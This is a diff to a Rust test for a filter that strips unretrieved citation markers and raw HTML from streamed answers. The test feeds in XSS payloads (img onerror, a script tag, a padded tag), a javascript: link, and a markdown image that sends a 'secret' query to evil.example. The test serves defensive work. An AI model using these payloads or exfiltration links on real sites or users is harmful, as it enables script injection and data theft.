@@ -190,10 +190,15 @@ async fn a_streamed_answer_is_the_same_answer_in_pieces() {
 #[tokio::test]
 async fn markers_of_unretrieved_sources_and_raw_html_never_reach_the_answer() {
     let fake = FakeServer::start(FakeConfig {
-        fixed_reply: Some(
-            "Paris [1]. Also [7] <img src=x onerror=alert(1)>and <script>steal()</script>done."
-                .into(),
-        ),
+        // Issue 21 M3: a tag longer than the filter's window arrives over many deltas (it
+        // used to come out whole, as text); images become links, script links lose their
+        // target.
+        fixed_reply: Some(format!(
+            "Paris [1]. Also [7] <img src=x\nonerror=alert(1)>and <script>steal()</script>done. \
+             <img title=\"{pad}\" onerror=alert(2)> \
+             ![t](https://evil.example/x.png?q=secret) [a](javascript:alert(1))",
+            pad = "a ".repeat(150)
+        )),
         ..FakeConfig::default()
     })
     .await
@@ -217,7 +222,12 @@ async fn markers_of_unretrieved_sources_and_raw_html_never_reach_the_answer() {
         };
         let answer = reply["answer"].as_str().unwrap();
         assert_eq!(
-            answer, "Paris [1]. Also  and steal()done.",
+            answer,
+            format!(
+                "Paris [1]. Also  and steal()done. < img title=\"{pad}\" onerror=alert(2)> \
+                 ! [t](https://evil.example/x.png?q=secret) [a]",
+                pad = "a ".repeat(150)
+            ),
             "stream {stream}"
         );
         let markers: Vec<u64> = reply["citations"]
